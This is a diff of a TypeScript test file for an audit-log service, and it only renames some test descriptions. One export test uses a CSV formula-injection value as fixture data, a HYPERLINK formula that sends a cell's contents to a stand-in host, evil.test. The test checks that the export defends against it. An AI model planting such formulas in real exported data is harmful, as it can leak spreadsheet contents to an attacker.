@@ -44,7 +44,7 @@ async function addAccounts(...names: string[]) {
 }
 
 describe('audit-log', () => {
-  test('gives a super admin pages, newest first', async () => {
+  test('returns pages to a super admin, newest first', async () => {
     await addAccounts('One', 'Two', 'Three');
     const mine = { actorId: superAdminId, tableName: 'public.accounts', limit: 2 };
     const first = auditLogResponse.parse((await invoke(superAdmin, 'audit-log', mine)).data);
@@ -90,7 +90,7 @@ describe('audit-log', () => {
 });
 
 describe('audit-log-export', () => {
-  test('writes the filtered log as CSV that no spreadsheet takes for formulas', async () => {
+  test('writes the filtered log as CSV that no spreadsheet treats as formulas', async () => {
     const formula = '=HYPERLINK("http://evil.test?x="&A1,"Click")';
     await addAccounts(formula, 'Line\r\nbreak, and "quotes"', 'Ünïcode ✝');
     const { data, response } = await invoke(superAdmin, 'audit-log-export', {
@@ -143,7 +143,7 @@ describe('audit-log-export', () => {
     expect(JSON.parse(lines[0] ?? '')).toMatchObject({ subject: title, after: { title, prompt } });
   });
 
-  test('goes over many pages, whole and in order', async () => {
+  test('exports many pages, complete and in order', async () => {
     const { data } = await invoke(superAdmin, 'audit-log-export', {
       format: 'jsonl',
       actorId: await manyEntries(1_203),
